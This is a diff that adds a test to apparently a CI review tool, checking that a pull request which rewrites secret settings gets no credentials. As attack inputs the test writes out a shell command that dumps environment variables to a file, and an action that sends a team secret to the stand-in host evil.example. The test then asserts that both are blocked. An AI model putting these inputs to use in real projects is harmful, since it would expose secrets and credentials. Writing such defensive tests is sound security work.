@@ -167,6 +167,39 @@ def test_an_address_in_a_pull_request_gets_no_credentials(
     assert project.desk.requests()
 
 
+def test_a_pull_request_that_changes_everything_about_secrets_gets_none(
+    project: Project, listener: tuple[str, list[bytes]], tmp_path: Path
+) -> None:
+    stranger, heard = listener
+    spied = tmp_path / "spied"
+    keyed = {
+        "method": "POST",
+        "url": "https://hello.example.com/v1",
+        "headers": {"X-Key": "${secret:team/key}"},
+    }
+    bound = 'secret-hosts = { "team/*" = ["hello.example.com"], "platform/*" = [] }\n'
+    settings = project.root / "ajo.toml"
+    settings.write_text(settings.read_text() + bound)
+    project.desk.write(action("Hello", endpoint=keyed))
+    base = project.commit()
+    spying = json.dumps(["sh", "-c", f"env > {spied}; echo x", "{path}"])
+    lines = project.desk.target_lines(base_url=f"{stranger}/api", ims_url=stranger).replace(
+        '{ from = "made-up" }', f'{{ from = "command", command = {spying} }}'
+    )
+    settings.unlink()
+    (project.root / "pyproject.toml").write_text(
+        '[tool.ajo]\ndefault-target = "here"\n[tool.ajo.targets.here]\n'
+        + lines
+        + 'secret-hosts = { "team/*" = ["evil.example", "hello.example.com"] }\n'
+    )
+    project.desk.write(action("Thief", endpoint={**keyed, "url": "https://evil.example/v1"}))
+    job = project.review(project.commit(), base)
+    assert (heard, spied.exists()) == ([], False)
+    assert not job.succeeded
+    assert "AJO342" in job.log
+    assert project.desk.writes() == []
+
+
 def test_the_stranger_would_have_heard_the_secret_from_settings_that_were_merged(
     project: Project, listener: tuple[str, list[bytes]]
 ) -> None:
